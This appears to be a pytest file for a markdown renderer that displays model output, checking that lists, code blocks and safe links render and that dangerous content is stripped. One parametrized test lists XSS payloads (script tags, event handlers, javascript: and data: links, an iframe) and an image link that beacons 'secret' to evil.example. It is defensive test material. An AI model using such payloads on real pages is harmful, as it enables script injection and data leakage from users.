"""Markdown rendering of model output: formatting kept, anything executable or beaconing dropped."""

from __future__ import annotations

import pytest

from sessions_app.markdown import render_markdown


def test_formatting_is_kept() -> None:
    """Bold, lists, code blocks and safe links render."""
    html = render_markdown(
        "**Plan**\n\n1. one\n2. two\n\n```powershell\nGet-Service\n```\n[doc](https://learn.microsoft.com)"
    )
    assert "<strong>Plan</strong>" in html and "<ol>" in html
    assert "<pre><code" in html and "Get-Service" in html
    assert (
        'href="https://learn.microsoft.com"' in html
        and 'rel="noopener noreferrer nofollow"' in html
    )


@pytest.mark.parametrize(
    ("text", "forbidden"),
    [
        ("<script>alert(1)</script>", "<script"),
        ("<img src=x onerror=alert(1)>", "<img"),
        ("![pixel](https://evil.example/p.png?d=secret)", "evil.example"),
        ("[x](javascript:alert(1))", "javascript:"),
        ('<a href="https://ok.example" onclick="steal()">x</a>', "onclick"),
        ('<p style="background:url(https://evil.example)">x</p>', "style="),
        ("<iframe src=https://evil.example></iframe>", "<iframe"),
        ("<svg onload=alert(1)></svg>", "onload"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "data:"),
    ],
)
def test_dangerous_output_is_neutralised(text: str, forbidden: str) -> None:
    """Scripts, handlers, styles, frames, images and odd URL schemes never survive."""
    assert forbidden not in render_markdown(text)


def test_code_is_escaped() -> None:
    """HTML inside a code block is shown as text."""
    html = render_markdown("```\n<b>not bold</b>\n```")
    assert "&lt;b&gt;not bold&lt;/b&gt;" in html


def test_a_numbered_plan_right_after_a_sentence_renders_as_a_list() -> None:
    """Models skip the blank line before a list: the plan still renders as <ol>, not one
    paragraph with the numbers run together."""
    html = render_markdown("Try these in order:\n1. Clear the credential\n2. Restart Outlook")
    assert "<p>Try these in order:</p>" in html
    assert "<ol>\n<li>Clear the credential</li>\n<li>Restart Outlook</li>\n</ol>" in html


def test_bullets_after_a_sentence_render_as_a_list() -> None:
    html = render_markdown("What I know so far:\n- VPN connects\n* DNS fails")
    assert "<ul>" in html and "<li>VPN connects</li>" in html and "<li>DNS fails</li>" in html
    assert "- VPN" not in html


def test_list_lookalikes_inside_code_fences_stay_code() -> None:
    html = render_markdown("Run:\n```\nGet-Item\n1. not a list\n```")
    assert "<ol>" not in html and "1. not a list" in html


def test_previews_chat_and_notes_share_the_one_renderer() -> None:
    """No second renderer with its own allowlist exists."""
    from sessions_app import fix_context
    from sessions_app.services import previews

    assert not hasattr(previews, "render_markdown")
    assert fix_context.render_markdown is render_markdown  # type: ignore[attr-defined]


def test_rendering_the_same_text_again_is_served_from_the_cache() -> None:
    from sessions_app import markdown

    text = "Cached **once** for step 42"
    render_markdown(text)
    hits = markdown._render.cache_info().hits
    assert render_markdown(text) == render_markdown(text)
    assert markdown._render.cache_info().hits == hits + 2


def test_a_bullet_straight_after_a_numbered_item_starts_its_own_list() -> None:
    """ "1. one\\n- then" renders an <ol> and a <ul>, not the bullet inside the last item;
    an indented bullet stays nested."""
    html = render_markdown("Plan:\n1. Clear the credential\n2. Restart Outlook\n- then tell me")
    assert "<li>Restart Outlook</li>\n</ol>" in html and "<ul>\n<li>then tell me</li>" in html
    nested = render_markdown("1. Open Outlook\n    - in safe mode\n2. Sign in")
    assert "<ul>" in nested and nested.count("<ol>") == 1
